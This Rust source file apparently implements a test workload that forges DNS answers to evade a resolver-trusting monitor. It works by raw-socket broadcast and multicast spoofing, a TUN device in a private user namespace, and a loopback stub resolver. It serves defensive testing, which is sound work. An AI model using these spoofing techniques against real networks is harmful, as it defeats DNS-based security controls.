//! `dnsprobe forge`: a workload that asks a trusted resolver a real
//! question and answers it itself, naming an address of its choosing, by
//! each route a hostile workload has:
//!
//! - `broadcast`: from a raw socket to 255.255.255.255 (CAP_NET_RAW, the
//!   default in containers); the kernel loops the broadcast back with the
//!   real interface as its device.
//! - `multicast`: the same to the all-hosts group 224.0.0.1 (looped back).
//! - `tun`: no capability of the real namespace at all: a user and network
//!   namespace of its own (`unshare -Urn`), where a TUN device plays the
//!   resolver at the trusted address (the answer arrives unicast, on a
//!   real interface, from the resolver's address).
//! - `stub`: a loopback "resolver" of its own at `--server` (a 127/8
//!   address) in the workload's namespace.
//!
//! Prints whether the forged answer reached the querying socket (so a test
//! knows the attack was made, not only that it failed) and, with
//! `--connect-port`, what a TCP connect to the forged address inside the
//! private namespace got.
use std::{
    io::{Read, Write},
    net::{IpAddr, Ipv4Addr, SocketAddr, SocketAddrV4, UdpSocket},
    os::fd::{AsRawFd, FromRawFd, OwnedFd},
    process::Command,
    time::{Duration, Instant},
};

use anyhow::{bail, Context, Result};
use monitor::names::parse_answer;
use serde_json::{json, Value};

use crate::wire::{Builder, Rdata, AA, QR, RD, TYPE_A};

/// The private namespace's TUN address and the name of its device.
const TUN_ADDR: &str = "10.253.0.1/24";
const TUN_DEV: &str = "emforge0";

#[derive(clap::Args)]
pub struct Forge {
    #[arg(long)]
    pub server: SocketAddr,
    #[arg(long)]
    pub name: String,
    /// The address the forged answer names.
    #[arg(long)]
    pub answer: Ipv4Addr,
    /// broadcast, multicast, tun or stub.
    #[arg(long)]
    pub via: String,
    /// The interface a broadcast or multicast forgery leaves by.
    #[arg(long)]
    pub dev: Option<String>,
    /// With `tun`: then connect over TCP to ANSWER:P in the private
    /// namespace; prints the errno.
    #[arg(long)]
    pub connect_port: Option<u16>,
}

pub fn forge(f: &Forge) -> Result<Value> {
    let SocketAddr::V4(server) = f.server else {
        bail!("--server must be an IPv4 address");
    };
    let mut out = match f.via.as_str() {
        "broadcast" | "multicast" => {
            let dev = f
                .dev
                .as_deref()
                .context("--dev IFNAME is needed to broadcast")?;
            let group = if f.via == "broadcast" {
                Ipv4Addr::BROADCAST
            } else {
                Ipv4Addr::new(224, 0, 0, 1)
            };
            raw_forgery(f, server, dev, group)?
        }
        "tun" => tun_forgery(f, server)?,
        "stub" => stub_forgery(f, server)?,
        other => bail!("--via {other:?}: broadcast, multicast, tun or stub"),
    };
    out["via"] = json!(f.via);
    Ok(out)
}

fn message_id() -> u16 {
    (std::process::id() as u16) ^ 0x5a5a
}

/// The answer a forger writes: our question, one A record.
fn forged_answer(id: u16, name: &str, answer: Ipv4Addr) -> Vec<u8> {
    let mut b = Builder::new(id, QR | AA | RD);
    b.question(name, TYPE_A);
    b.record(name, 300, &Rdata::A(answer));
    b.finish()
}

/// Whether `sock` receives, within a second, an answer to `id` naming
/// `answer`.
fn delivered(sock: &UdpSocket, id: u16, answer: Ipv4Addr) -> Result<bool> {
    sock.set_read_timeout(Some(Duration::from_millis(200)))?;
    let deadline = Instant::now() + Duration::from_secs(1);
    let mut buf = [0u8; 1500];
    while Instant::now() < deadline {
        match sock.recv(&mut buf) {
            Ok(n) => {
                if let Ok(a) = parse_answer(&buf[..n]) {
                    if a.id == id && a.records.iter().any(|(ip, _)| *ip == IpAddr::V4(answer)) {
                        return Ok(true);
                    }
                }
            }
            Err(e)
                if e.kind() == std::io::ErrorKind::WouldBlock
                    || e.kind() == std::io::ErrorKind::TimedOut => {}
            Err(e) => return Err(e.into()),
        }
    }
    Ok(false)
}

fn checksum(bytes: &[u8]) -> u16 {
    let mut sum = 0u32;
    for pair in bytes.chunks(2) {
        let word = u16::from_be_bytes([pair[0], *pair.get(1).unwrap_or(&0)]);
        sum += u32::from(word);
    }
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// An IPv4 + UDP packet (UDP checksum 0: none, as IPv4 allows).
fn ipv4_udp(src: SocketAddrV4, dst: SocketAddrV4, payload: &[u8]) -> Vec<u8> {
    let total = 20 + 8 + payload.len();
    let mut p = Vec::with_capacity(total);
    p.extend([0x45, 0]);
    p.extend((total as u16).to_be_bytes());
    p.extend([0, 0, 0x40, 0, 64, 17, 0, 0]);
    p.extend(src.ip().octets());
    p.extend(dst.ip().octets());
    let sum = checksum(&p);
    p[10..12].copy_from_slice(&sum.to_be_bytes());
    p.extend(src.port().to_be_bytes());
    p.extend(dst.port().to_be_bytes());
    p.extend(((8 + payload.len()) as u16).to_be_bytes());
    p.extend([0, 0]);
    p.extend(payload);
    p
}

fn check(rc: libc::c_int, what: &str) -> Result<()> {
    if rc < 0 {
        return Err(std::io::Error::last_os_error()).context(what.to_string());
    }
    Ok(())
}

fn set_int(
    fd: &OwnedFd,
    level: libc::c_int,
    option: libc::c_int,
    value: libc::c_int,
) -> Result<()> {
    // SAFETY: an int option on our own socket.
    let rc = unsafe {
        libc::setsockopt(
            fd.as_raw_fd(),
            level,
            option,
            (&value as *const libc::c_int).cast(),
            size_of::<libc::c_int>() as libc::socklen_t,
        )
    };
    check(rc, "setsockopt")
}

/// The real query, then the forged answer from a raw socket to `group`
/// (a broadcast or multicast address) out of `dev`.
fn raw_forgery(f: &Forge, server: SocketAddrV4, dev: &str, group: Ipv4Addr) -> Result<Value> {
    let sock = UdpSocket::bind("0.0.0.0:0")?;
    let id = message_id();
    sock.send_to(&Builder::query(id, &f.name, TYPE_A), server)?;
    let port = sock.local_addr()?.port();
    // SAFETY: plain socket creation; owned below.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    check(fd, "a raw socket (CAP_NET_RAW)")?;
    // SAFETY: a fresh descriptor.
    let raw = unsafe { OwnedFd::from_raw_fd(fd) };
    set_int(&raw, libc::SOL_SOCKET, libc::SO_BROADCAST, 1)?;
    // SAFETY: a NUL-free device name and its length.
    let rc = unsafe {
        libc::setsockopt(
            raw.as_raw_fd(),
            libc::SOL_SOCKET,
            libc::SO_BINDTODEVICE,
            dev.as_ptr().cast(),
            dev.len() as libc::socklen_t,
        )
    };
    check(rc, "SO_BINDTODEVICE")?;
    let packet = ipv4_udp(
        SocketAddrV4::new(*server.ip(), 53),
        SocketAddrV4::new(group, port),
        &forged_answer(id, &f.name, f.answer),
    );
    let to = libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: 0,
        sin_addr: libc::in_addr {
            s_addr: u32::from_ne_bytes(group.octets()),
        },
        sin_zero: [0; 8],
    };
    // SAFETY: a live buffer and address.
    let rc = unsafe {
        libc::sendto(
            raw.as_raw_fd(),
            packet.as_ptr().cast(),
            packet.len(),
            0,
            (&to as *const libc::sockaddr_in).cast(),
            size_of::<libc::sockaddr_in>() as libc::socklen_t,
        )
    };
    check(rc as libc::c_int, "sending the forged answer")?;
    Ok(json!({"result": "ok", "delivered": delivered(&sock, id, f.answer)?}))
}

fn ip(args: &[&str]) -> Result<()> {
    let out = Command::new("ip").args(args).output().context("run ip")?;
    if !out.status.success() {
        bail!("ip {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    }
    Ok(())
}

/// A user and network namespace of our own, as `unshare -Urn` makes: we
/// are root in it, nobody outside.
fn private_namespace() -> Result<()> {
    let uid = unsafe { libc::getuid() };
    let gid = unsafe { libc::getgid() };
    // SAFETY: plain syscall; this process is single-threaded here.
    check(
        unsafe { libc::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNET) },
        "unshare(CLONE_NEWUSER | CLONE_NEWNET)",
    )?;
    std::fs::write("/proc/self/setgroups", "deny")?;
    std::fs::write("/proc/self/uid_map", format!("0 {uid} 1"))?;
    std::fs::write("/proc/self/gid_map", format!("0 {gid} 1"))?;
    ip(&["link", "set", "lo", "up"])
}

fn open_tun(name: &str) -> Result<std::fs::File> {
    let tun = std::fs::OpenOptions::new()
        .read(true)
        .write(true)
        .open("/dev/net/tun")
        .context("open /dev/net/tun")?;
    #[repr(C)]
    struct IfReq {
        name: [u8; 16],
        flags: libc::c_short,
        _pad: [u8; 22],
    }
    let mut req = IfReq {
        name: [0; 16],
        flags: (libc::IFF_TUN | libc::IFF_NO_PI) as libc::c_short,
        _pad: [0; 22],
    };
    req.name[..name.len()].copy_from_slice(name.as_bytes());
    const TUNSETIFF: libc::c_ulong = 0x4004_54ca;
    // SAFETY: TUNSETIFF with an ifreq-sized buffer.
    check(
        unsafe { libc::ioctl(tun.as_raw_fd(), TUNSETIFF, &mut req) },
        "TUNSETIFF",
    )?;
    Ok(tun)
}

/// Reads from the TUN device (for at most a second) until the query to
/// `server` port 53 comes out; returns its source.
fn query_out_of(tun: &mut std::fs::File, server: SocketAddrV4) -> Result<SocketAddrV4> {
    let deadline = Instant::now() + Duration::from_secs(1);
    let mut buf = [0u8; 2048];
    while Instant::now() < deadline {
        let mut pfd = libc::pollfd {
            fd: tun.as_raw_fd(),
            events: libc::POLLIN,
            revents: 0,
        };
        // SAFETY: one pollfd.
        if unsafe { libc::poll(&mut pfd, 1, 200) } <= 0 {
            continue;
        }
        let n = tun.read(&mut buf)?;
        let p = &buf[..n];
        if n < 28 || p[0] >> 4 != 4 || p[9] != 17 {
            continue;
        }
        let l4 = usize::from(p[0] & 0x0f) * 4;
        let dst = Ipv4Addr::new(p[16], p[17], p[18], p[19]);
        let dport = u16::from_be_bytes([p[l4 + 2], p[l4 + 3]]);
        if dst == *server.ip() && dport == server.port() {
            let src = Ipv4Addr::new(p[12], p[13], p[14], p[15]);
            return Ok(SocketAddrV4::new(
                src,
                u16::from_be_bytes([p[l4], p[l4 + 1]]),
            ));
        }
    }
    bail!("the query never came out of the TUN device")
}

/// In a namespace of our own, the TUN device answers for the resolver's
/// address: a unicast answer from the trusted address, on a real device.
fn tun_forgery(f: &Forge, server: SocketAddrV4) -> Result<Value> {
    private_namespace()?;
    let mut tun = open_tun(TUN_DEV)?;
    ip(&["addr", "add", TUN_ADDR, "dev", TUN_DEV])?;
    ip(&["link", "set", TUN_DEV, "up"])?;
    let server_net = format!("{}/32", server.ip());
    ip(&["route", "add", &server_net, "dev", TUN_DEV])?;
    let answer_net = format!("{}/32", f.answer);
    if answer_net != server_net {
        ip(&["route", "add", &answer_net, "dev", TUN_DEV])?;
    }
    let sock = UdpSocket::bind("0.0.0.0:0")?;
    let id = message_id();
    sock.send_to(&Builder::query(id, &f.name, TYPE_A), server)?;
    let from = query_out_of(&mut tun, server)?;
    let packet = ipv4_udp(server, from, &forged_answer(id, &f.name, f.answer));
    tun.write_all(&packet)?;
    let mut out = json!({"result": "ok", "delivered": delivered(&sock, id, f.answer)?});
    if let Some(port) = f.connect_port {
        out["private_connect_errno"] = json!(connect_errno(SocketAddr::new(f.answer.into(), port)));
    }
    Ok(out)
}

/// What a non-blocking TCP connect got at once: 0 or EINPROGRESS when
/// allowed, EPERM when refused.
fn connect_errno(to: SocketAddr) -> i32 {
    let sock = match nonblocking_tcp_socket(to) {
        Ok(s) => s,
        Err(e) => return e.raw_os_error().unwrap_or(-1),
    };
    let SocketAddr::V4(v4) = to else { return -1 };
    let sa = libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: v4.port().to_be(),
        sin_addr: libc::in_addr {
            s_addr: u32::from_ne_bytes(v4.ip().octets()),
        },
        sin_zero: [0; 8],
    };
    // SAFETY: a live address on our own socket.
    let rc = unsafe {
        libc::connect(
            sock.as_raw_fd(),
            (&sa as *const libc::sockaddr_in).cast(),
            size_of::<libc::sockaddr_in>() as libc::socklen_t,
        )
    };
    if rc == 0 {
        0
    } else {
        std::io::Error::last_os_error().raw_os_error().unwrap_or(-1)
    }
}

fn nonblocking_tcp_socket(to: SocketAddr) -> std::io::Result<OwnedFd> {
    let domain = if to.is_ipv4() {
        libc::AF_INET
    } else {
        libc::AF_INET6
    };
    // SAFETY: plain socket creation; owned below.
    let fd = unsafe {
        libc::socket(
            domain,
            libc::SOCK_STREAM | libc::SOCK_NONBLOCK | libc::SOCK_CLOEXEC,
            0,
        )
    };
    if fd < 0 {
        return Err(std::io::Error::last_os_error());
    }
    // SAFETY: a fresh descriptor.
    Ok(unsafe { OwnedFd::from_raw_fd(fd) })
}

/// A "resolver" of our own on a loopback address of this namespace: it
/// answers our query with the forged address.
fn stub_forgery(f: &Forge, server: SocketAddrV4) -> Result<Value> {
    if !server.ip().is_loopback() {
        bail!("--via stub needs a loopback --server");
    }
    let stub = UdpSocket::bind(server).with_context(|| format!("bind the stub at {server}"))?;
    stub.set_read_timeout(Some(Duration::from_secs(1)))?;
    let sock = UdpSocket::bind("127.0.0.1:0")?;
    let id = message_id();
    sock.send_to(&Builder::query(id, &f.name, TYPE_A), server)?;
    let mut buf = [0u8; 512];
    let (_, from) = stub.recv_from(&mut buf).context("the stub got no query")?;
    stub.send_to(&forged_answer(id, &f.name, f.answer), from)?;
    Ok(json!({"result": "ok", "delivered": delivered(&sock, id, f.answer)?}))
}
